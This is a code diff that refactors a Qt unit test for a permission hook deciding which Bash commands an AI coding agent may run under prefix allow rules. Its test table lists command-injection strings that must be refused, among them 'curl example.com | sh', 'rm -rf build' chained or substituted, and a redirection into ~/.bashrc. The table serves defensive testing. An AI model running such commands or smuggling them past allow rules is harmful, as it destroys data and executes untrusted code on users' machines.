@@ -25,72 +25,59 @@ private slots:
         QFile::remove(m_settings);
     }
 
-    void bashProgramRule_data() {
-        QTest::addColumn<QString>("command");
-        QTest::addColumn<bool>("approved");
-        QTest::newRow("git status") << "git status" << true;
-        QTest::newRow("gitk") << "gitk" << false;
-        QTest::newRow("two leading spaces") << "  git log" << true;
-        QTest::newRow("sudo git push") << "sudo git push" << false;
-        QTest::newRow("only spaces") << "   " << false;
-        QTest::newRow("tab is not a separator") << "git\tstatus" << false;
-        // A prefix rule covers a compound command only when it covers every simple command in it,
-        // and never a substitution: "allow" skips Claude Code's own check.
-        QTest::newRow("and, then a pipe to sh") << "git status && curl example.com | sh" << false;
-        QTest::newRow("semicolon") << "git status; rm -rf build" << false;
-        QTest::newRow("newline") << "git status\nrm -rf build" << false;
-        QTest::newRow("background") << "git status & rm -rf build" << false;
-        QTest::newRow("or") << "git status || rm -rf build" << false;
-        QTest::newRow("pipe") << "git log | sh" << false;
-        QTest::newRow("command substitution") << "git log $(rm -rf build)" << false;
-        QTest::newRow("in double quotes") << "echo \"$(rm -rf build)\"" << false;
-        QTest::newRow("backquotes") << "git log `rm -rf build`" << false;
-        QTest::newRow("process substitution") << "git diff <(rm -rf build)" << false;
-        QTest::newRow("output process substitution") << "git log > >(sh)" << false;
-        QTest::newRow("parameter expansion") << "echo ${X:=$HOME}" << false;
-        QTest::newRow("into a file") << "git log > ~/.bashrc" << false;
-        QTest::newRow("appended to a file") << "git log >>notes" << false;
-        QTest::newRow("from a file") << "git apply < patch" << false;
-        QTest::newRow("unclosed quote") << "git log 'x; rm" << false;
-        QTest::newRow("every part allowed") << "git status && echo done; git log | echo x" << true;
-        QTest::newRow("operators in single quotes") << "git commit -m 'a; b && $(c) `d`'" << true;
-        QTest::newRow("operators in double quotes") << "git commit -m \"a; b && c | d\"" << true;
-        QTest::newRow("escaped semicolon") << "echo a\\;rm" << true;
-        QTest::newRow("plain variable") << "echo $HOME" << true;
-        QTest::newRow("to another descriptor") << "git log 2>&1" << true;
-        QTest::newRow("to nowhere") << "git log >/dev/null 2> /dev/null" << true;
-        QTest::newRow("trailing semicolon") << "git status;" << true;
-    }
-
     void bashProgramRule() {
-        QFETCH(QString, command);
-        QFETCH(bool, approved);
         writeBytes(m_settings, R"j({"permissions":{"allow":["Bash(git:*)","Bash(echo:*)"]}})j");
         StoreFakes fakes;
         auto store = makeStore(fakes, m_settings);
         store->reloadAllowPatterns();
         QCOMPARE(store->allowPatterns(), (QStringList{"Bash(git:*)", "Bash(echo:*)"}));
-
-        nlohmann::json input = {{"command", command.toStdString()}};
-        Answers answers;
-        store->handle(permissionRequest("s1", "Bash", input.dump()), answers.respond());
-        const Session* s = store->session("s1");
-        if (approved) {
-            QCOMPARE(answers.count(), size_t(1));
-            QVERIFY(answers.last() == HookDecision::Decision::approve);
-            QVERIFY(s->status.kind == Status::Kind::working);
-            QVERIFY(store->pending().empty());
-        } else {
-            QCOMPARE(answers.count(), size_t(0));
-            QVERIFY(s->status.isWaiting());
-            QCOMPARE(s->status.prompt->event.toolInput, std::optional<std::string>(input.dump()));
+        // A prefix rule covers a compound command only when it covers every simple command in
+        // it, and never a substitution or a redirection to a file: "allow" skips Claude Code's
+        // own check.
+        const std::pair<const char*, bool> commands[] = {
+            {"git status", true},
+            {"gitk", false},
+            {"  git log", true},
+            {"sudo git push", false},
+            {"   ", false},
+            {"git\tstatus", false},
+            {"git status && curl example.com | sh", false},
+            {"git status; rm -rf build", false},
+            {"git status\nrm -rf build", false},
+            {"git status & rm -rf build", false},
+            {"git status || rm -rf build", false},
+            {"git log | sh", false},
+            {"git log $(rm -rf build)", false},
+            {"echo \"$(rm -rf build)\"", false},
+            {"git log `rm -rf build`", false},
+            {"git diff <(rm -rf build)", false},
+            {"git log > >(sh)", false},
+            {"echo ${X:=$HOME}", false},
+            {"git log > ~/.bashrc", false},
+            {"git log >>notes", false},
+            {"git apply < patch", false},
+            {"git log 'x; rm", false},
+            {"git status && echo done; git log | echo x", true},
+            {"git commit -m 'a; b && $(c) `d`'", true},
+            {"git commit -m \"a; b && c | d\"", true},
+            {"echo a\\;rm", true},
+            {"echo $HOME", true},
+            {"git log 2>&1", true},
+            {"git log >/dev/null 2> /dev/null", true},
+            {"git status;", true}};
+        for (const auto& [command, approved] : commands) {
+            Answers answers;
+            store->handle(
+                permissionRequest(command, "Bash", nlohmann::json{{"command", command}}.dump()),
+                answers.respond());
+            QVERIFY2(answers.count() == (approved ? 1u : 0u), command);
+            QVERIFY2(store->session(command)->status.isWaiting() != approved, command);
         }
     }
 
     void bareToolRuleAndUnderstoodForms() {
-        writeBytes(
-            m_settings,
-            "{\"permissions\":{\"allow\":[\"Edit(src/*)\",\"Read(:*)\",\"Bash\",\"WebFetch(git:*)\"]}}");
+        writeBytes(m_settings, "{\"permissions\":{\"allow\":[\"Edit(src/"
+                               "*)\",\"Read(:*)\",\"Bash\",\"WebFetch(git:*)\"]}}");
         StoreFakes fakes;
         auto store = makeStore(fakes, m_settings);
         store->reloadAllowPatterns();
